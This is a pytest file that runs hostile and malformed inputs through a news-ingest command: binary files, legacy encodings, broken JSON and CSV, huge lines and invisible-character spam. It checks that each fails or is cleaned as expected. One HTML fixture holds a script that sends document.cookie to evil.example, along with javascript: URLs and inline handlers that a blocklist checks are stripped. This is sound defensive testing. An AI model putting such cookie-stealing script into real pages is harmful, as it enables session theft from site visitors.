"""Hostile and broken input end to end through ``narratrace ingest`` (issue 8, part 1).

Each kind of input is generated here, ingested next to a good article, and must give a message
naming the file (and line), leave everything else stored, and set exit code 2 when something
failed (0 when the input was readable after all, e.g. a legacy encoding).
The reader-level behaviour is tested in tests/ingest; these tests go through the command and the store.
"""
from __future__ import annotations

import codecs
import io
import json
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from typer.testing import CliRunner

from narratrace import Narratrace
from narratrace.model import Article
from narratrace.present.cli.app import app
from narratrace.settings import Settings

from .conftest import ingest_json, news_text, run_cli, write_config

runner = CliRunner()

ARABIC = ("قال وزير الخارجية إن المحادثات ستستأنف الأسبوع المقبل في العاصمة بعد توقف دام شهرين.\n\n"
          "وأضاف أن الوفدين اتفقا على جدول الأعمال وأن الاجتماع سيعقد في مقر الوزارة يوم الثلاثاء.")
FRENCH = ("Le ministre a déclaré que le café coûte désormais 3 € à Zürich — «très cher» selon les habitants.\n\n"
          "Les négociations reprendront à Genève après la pause estivale, a-t-il ajouté.")
ENGLISH = "The minister said the new bridge will open in March after years of delay.\n\nTraffic is expected to ease."


def png_bytes() -> bytes:
    """A real 2x2 PNG image."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    raw = b"".join(b"\x00" + b"\xff\x00\x00" * 2 for _ in range(2))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def zip_bytes() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("story.txt", news_text(7) * 3)
    return buf.getvalue()


def pdf_bytes() -> bytes:
    return (b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
            b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")


HOSTILE_HTML = """<!doctype html><html><head><title>Storm <script>alert('title')</script>hits coast</title>
<script>var stolen = document.cookie; fetch('http://evil.example/?c=' + stolen)</script>
<meta http-equiv="refresh" content="0;url=javascript:alert('refresh')"></head>
<body onload="alert('onload')"><iframe src="http://evil.example/frame"></iframe>
<article><h1 onmouseover="alert('h1')">Storm hits the eastern coast</h1>
<p onclick="alert('p')">A strong storm hit the eastern coast on Sunday, cutting power to thousands of homes
across four districts, officials said.</p>
<script>document.write('INJECTED-BY-SCRIPT')</script>
<p>Rescue teams were sent to three villages <img src=x onerror="alert('img')"> after rivers burst their
banks overnight and roads were closed.</p>
<iframe srcdoc="&lt;p&gt;IFRAME-TEXT&lt;/p&gt;"></iframe><object data="evil.swf">OBJECT-FALLBACK</object>
<p>The weather service said the storm would <a href="javascript:alert('a')">move north</a> by Tuesday.</p>
<style>p { background: url(javascript:alert('css')) }</style>
</article></body></html>"""

FORBIDDEN_IN_TEXT = ["alert(", "<script", "document.", "INJECTED-BY-SCRIPT", "IFRAME-TEXT", "onerror", "onclick",
                     "onload", "javascript:", "evil.example", "<iframe"]

UNKNOWN_SCRIPTS = {
    "tifinagh.txt": ("ⵜⴰⵎⴰⵣⵉⵖⵜ ⵜⴰⵏⴰⵡⴰⵍⵜ ⵏ ⵍⵎⵖⵔⵉⴱ ⴰⵎⴰⵣⵉⵖ " * 12 + "\n\n") * 2,
    "olchiki.txt": ("ᱥᱟᱱᱛᱟᱲᱤ ᱯᱟᱹᱨᱥᱤ ᱨᱮᱭᱟᱜ ᱚᱞ ᱪᱤᱠᱤ " * 15 + "\n\n") * 2,
    "hieroglyphs.txt": ("𓀀𓀁𓀂𓁐 𓂀𓃀𓄿 𓅓𓆑𓇋 " * 20 + "\n\n") * 2,
    "mixed_scripts.txt": "Ꭰ Ꮳ ᏣᎳᎩ 𐀀𐀁 𐌰𐌱𐌲 ꦧꦱꦗꦮ ᚠᚢᚦᚨ " * 30,
}

ZW = "\u200b\u200b\u2060\ufeff"
SPAM_TEXT = "".join(ch + ZW for ch in "The port reopened after the storm and ships began to unload grain again.")
SPAM_TEXT += ("\x07\x1b[31m\x08\x7f\x85\x9b" * 3 + "\n\n"
              + "Dock workers said the cranes were\x0c repaired\x0b overnight.")


@dataclass
class Case:
    """Files to write; errors expected as (file name, line or None, text in the message); ids stored."""

    files: dict[str, bytes | str]
    errors: list[tuple[str, int | None, str]] = field(default_factory=list)
    stored: dict[str, Callable[[Article], None] | None] = field(default_factory=dict)
    config: str = ""


def _exact(text: str, lang: str | None = None, encoding: str | None = None) -> Callable[[Article], None]:
    def check(a: Article) -> None:
        assert a.text == text.strip()
        if lang:
            assert a.lang == lang
        if encoding:
            assert a.meta.get("encoding") == encoding
    return check


def _no_active_content(a: Article) -> None:
    shown = "\n".join([a.title or "", a.text, *(p.text for p in a.passages)])
    for bad in FORBIDDEN_IN_TEXT:
        assert bad not in shown, bad
    assert "storm hit the eastern coast" in a.text and "Rescue teams" in a.text and "move north" in a.text


def _long_paragraph(a: Article) -> None:
    assert len(a.text) >= 100_000
    assert "text_truncated_from" not in a.meta
    assert len(a.passages) > 100
    for p in a.passages:
        assert len(p.text) <= 700
        assert a.text[p.start:p.end] == p.text
    body = [p for p in a.passages if p.kind in ("title", "body")]
    assert body[-1].text.endswith("closing line.")


def _unknown_script(a: Article) -> None:
    assert a.passages and all(p.text for p in a.passages)
    assert a.lang is None or a.lang.startswith(("xx", "chr", "ber", "sat", "und")) or len(a.lang) <= 7


def _spam_cleaned(a: Article) -> None:
    for ch in "\u200b\u2060\ufeff\x07\x1b\x08\x7f\x85\x9b\x0b\x0c":
        assert ch not in a.text, repr(ch)
        assert all(ch not in p.text for p in a.passages)
    assert "The port reopened after the storm and ships began to unload grain again." in a.text
    assert "cranes were" in a.text and "overnight." in a.text


LONG_PARAGRAPH = ("Budget row in the city council\n\n"
                  + ("The council met again on Tuesday, and the mayor repeated that the budget would be balanced by "
                     "spring, while the opposition said the numbers did not add up; " * 700)[:100_000]
                  + "\n\nA short closing line.")

CASES: dict[str, Case] = {
    "empty file": Case({"empty.txt": b"", "blank.jsonl": b"\n\n  \n", "spaces.csv": b"   \r\n"},
                       errors=[("empty.txt", None, "empty file"), ("blank.jsonl", None, "empty file"),
                               ("spaces.csv", None, "empty file")]),
    "PNG, ZIP and PDF given as text": Case(
        {"photo.txt": png_bytes(), "bundle.jsonl": zip_bytes(), "paper.html": pdf_bytes(), "sheet.csv": zip_bytes()},
        errors=[("photo.txt", None, "binary file (PNG image) given as text"),
                ("bundle.jsonl", None, "binary file (ZIP archive) given as text"),
                ("paper.html", None, "binary file (PDF document) given as text"),
                ("sheet.csv", None, "binary file (ZIP archive) given as text")]),
    "UTF-16, Windows-1256 Arabic, Windows-1252": Case(
        {"utf16le.txt": codecs.BOM_UTF16_LE + ENGLISH.encode("utf-16-le"),
         "utf16be.txt": codecs.BOM_UTF16_BE + ENGLISH.replace("bridge", "tunnel").encode("utf-16-be"),
         "arabic.txt": ARABIC.encode("cp1256"), "french.txt": FRENCH.encode("cp1252"),
         "records.jsonl": (json.dumps({"id": "j-ar", "text": ARABIC + " 2"}, ensure_ascii=False)
                           + "\n").encode("cp1256")},
        stored={"utf16le": _exact(ENGLISH, "en", "utf-16-le"),
                "utf16be": _exact(ENGLISH.replace("bridge", "tunnel"), "en", "utf-16-be"),
                "arabic": _exact(ARABIC, "ar", "cp1256"), "french": _exact(FRENCH, "fr", "cp1252"),
                "j-ar": _exact(ARABIC + " 2", "ar")}),
    "invalid JSON lines": Case(
        {"lines.jsonl": "\n".join([
            json.dumps({"id": "j1", "text": news_text(11)}),
            '{"id": "j2", "text": broken',
            json.dumps({"id": "j3", "text": news_text(13)}),
            '[1, 2, 3]',
            '{"id": "j5", "text": "truncated',
            json.dumps({"id": "j6", "title": "no text here"}),
            json.dumps({"id": "j7", "text": news_text(17)}),
        ]) + "\n"},
        errors=[("lines.jsonl", 2, "invalid JSON"), ("lines.jsonl", 4, "expected a JSON object"),
                ("lines.jsonl", 5, "invalid JSON"), ("lines.jsonl", 6, "no text")],
        stored={"j1": None, "j3": None, "j7": None}),
    "CSV with embedded newlines and quotes": Case(
        {"quoted.csv": ('id,title,text\r\n'
                        'c1,"A ""quoted"" title","Line one about the harbour, with a comma.\r\n\r\n'
                        'He said ""no"", then left."\r\n'
                        'c2,Plain,"Another story about a train strike across the country."\r\n'),
         "misquoted.csv": ('id,text\n'
                           'u1,"Fine first record about floods in the south of the country."\n'
                           'u2,"This quote is closed in the wrong place, about a port strike\n'
                           'u3,"A record swallowed by the quote above."\n'
                           'u4,"Fine last record about a ferry that sank near the islands."\n'),
         "unclosed.csv": ('id,text\n'
                          'v1,"Fine record about a bus crash on the coast road at dawn."\n'
                          'v2,"This quote is never closed, about a port strike\n'
                          'v3,Another record swallowed up to the end of the file.\n')},
        errors=[("misquoted.csv", 3, "quoted field is not closed properly"),
                ("unclosed.csv", 3, "quoted field is never closed")],
        stored={"c1": _exact('Line one about the harbour, with a comma.\n\nHe said "no", then left.'),
                "c2": None, "u1": None, "u4": None, "v1": None}),
    "HTML with scripts, iframes and inline handlers": Case(
        {"storm.html": HOSTILE_HTML,
         "only_script.html": "<html><body><script>alert(1)</script><iframe src=x></iframe></body></html>"},
        errors=[("only_script.html", None, "no article text found")],
        stored={"storm": _no_active_content}),
    "a paragraph of 100k characters": Case({"long.txt": LONG_PARAGRAPH, "x100k.txt": "x" * 100_000},
                                          stored={"long": _long_paragraph, "x100k": None}),
    "scripts the detector does not know": Case(dict(UNKNOWN_SCRIPTS),
                                               stored={Path(n).stem: _unknown_script for n in UNKNOWN_SCRIPTS}),
    "zero-width and control-character spam": Case(
        {"spam.txt": SPAM_TEXT, "only_invisible.txt": ZW * 500 + "\u200c\u200d" * 100,
         "nul_interleaved.txt": "".join(c + "\x00\x07" for c in "The port reopened after the storm.")},
        errors=[("only_invisible.txt", None, "empty file"), ("nul_interleaved.txt", None, "binary")],
        stored={"spam": _spam_cleaned}),
    "markup-like ids and settings in messages": Case(
        {"ids.jsonl": "\n".join([json.dumps({"id": "[/x]", "text": news_text(21)}),
                                 json.dumps({"id": "[/x]", "text": news_text(22)})]) + "\n",
         "big.jsonl": json.dumps({"id": "big", "text": "word " * 500}) + "\n"},
        errors=[("ids.jsonl", 2, "id '[/x]' appears twice"), ("big.jsonl", 1, "raise [ingest] max_file_bytes")],
        stored={"[/x]": None}, config="[ingest]\nmax_file_bytes = 2000\n"),
}


def _write(folder: Path, case: Case) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "control.txt").write_text(news_text(0), "utf-8")
    for name, data in case.files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_bytes(data.encode("utf-8") if isinstance(data, str) else data)


def _check_errors(case: Case, messages: list[str], stderr: str) -> None:
    assert len(messages) == len(case.errors), messages
    for name, line, text in case.errors:
        where = f"{name}:{line}:" if line else f"{name}:"
        hits = [m for m in messages if where in m and text in m]
        assert hits, (where, text, messages)
        assert any(where in ln and text in ln for ln in stderr.splitlines()), (where, stderr)


def _check_stored(db: Path, config: Path, case: Case) -> None:
    with Narratrace(db=db, settings=Settings.load(config)) as nt:
        ids = {a.id for a in nt.articles()}
        assert ids == {"control", *case.stored}, ids
        for aid, check in case.stored.items():
            art = nt.article(aid)
            assert art.passages
            if check:
                check(art)


@pytest.mark.parametrize("kind", list(CASES))
def test_bad_input_end_to_end(new_db, tmp_path: Path, kind: str) -> None:
    case = CASES[kind]
    folder = tmp_path / "in"
    _write(folder, case)
    cfg = write_config(tmp_path, case.config)
    db = new_db("news")
    result = runner.invoke(app, ["ingest", str(folder), "--db", str(db), "--config", str(cfg), "--json"])
    assert result.exception is None or isinstance(result.exception, SystemExit), result.exception
    summary = ingest_json(result)
    assert result.exit_code == (2 if case.errors else 0), (result.exit_code, summary)
    _check_errors(case, summary["error_messages"], result.stderr)
    assert summary["ingested"] == 1 + len(case.stored)
    _check_stored(db, cfg, case)


def test_bad_input_all_kinds_in_one_run_of_the_real_command(new_db, tmp_path: Path) -> None:
    """Every kind above in one folder, through the installed command in its own process."""
    folder = tmp_path / "in"
    errors, stored = [], {}
    for kind, case in CASES.items():
        if case.config:
            continue
        sub = Case({f"{re.sub(r'[^a-z0-9]+', '_', kind)}/{n}": d for n, d in case.files.items()})
        _write(folder, sub)
        errors += case.errors
        stored.update(case.stored)
    cfg = write_config(tmp_path)
    db = new_db("all")
    result = run_cli("ingest", str(folder), "--db", str(db), "--config", str(cfg), "--json")
    assert result.returncode == 2, result.stderr[-2000:]
    assert "Traceback" not in result.stderr
    summary = ingest_json(result)
    _check_errors(Case({}, errors=errors), summary["error_messages"], result.stderr)
    _check_stored(db, cfg, Case({}, stored=stored))
    # running it again stores nothing twice and reports the same errors
    again = run_cli("ingest", str(folder), "--db", str(db), "--config", str(cfg), "--json")
    assert again.returncode == 2
    second = ingest_json(again)
    assert second["ingested"] == 0 and second["unchanged"] == summary["ingested"]
    assert second["error_messages"] == summary["error_messages"]


def test_bad_input_50_mb_single_line(new_db, tmp_path: Path) -> None:
    """A 50 MB file with no line break: read under a limit above its size and cut to [ingest]
    max_article_chars (its length noted in meta); as JSON Lines over a lower limit, refused by line."""
    folder = tmp_path / "in"
    folder.mkdir()
    unit = "the minister said on monday that talks would resume next week in the capital "
    size = 50 * 1024 * 1024
    text = (unit * (size // len(unit) + 1))[:size].strip()
    (folder / "huge.txt").write_text(text, "ascii")
    with open(folder / "huge.jsonl", "w", encoding="ascii") as f:
        f.write('{"id": "huge-line", "text": "')
        f.write(text)
        f.write('"}\n')
        f.write(json.dumps({"id": "after", "text": news_text(3)}) + "\n")
    (folder / "control.txt").write_text(news_text(0), "utf-8")
    del text
    cfg = write_config(tmp_path, "[ingest]\nmax_file_bytes = 60000000\n")
    db = new_db("big")
    result = run_cli("ingest", str(folder / "huge.txt"), str(folder / "control.txt"), "--db", str(db),
                     "--config", str(cfg), "--json")
    assert result.returncode == 0, result.stderr[-2000:]
    with Narratrace(db=db, settings=Settings.load(cfg)) as nt:
        huge = nt.article("huge")
        assert len(huge.text) == 200_000 and huge.meta["text_truncated_from"] == size - 1
        assert max(p.end for p in huge.passages) <= 200_000
        assert nt.article("control").passages
    cfg2 = write_config(tmp_path, "[ingest]\nmax_file_bytes = 10000000\n", name="small.toml")
    result = run_cli("ingest", str(folder), "--db", str(db), "--config", str(cfg2), "--json")
    assert result.returncode == 2
    summary = ingest_json(result)
    assert summary["ingested"] == 1 and summary["unchanged"] == 1, summary  # "after" stored; control already was
    messages = summary["error_messages"]
    assert len(messages) == 2, messages
    assert any("huge.jsonl:1: line is 50.0 MiB" in m and "over the limit of 9.5 MiB" in m for m in messages)
    assert any("huge.txt: file is 50.0 MiB" in m and "[ingest] max_file_bytes" in m for m in messages)
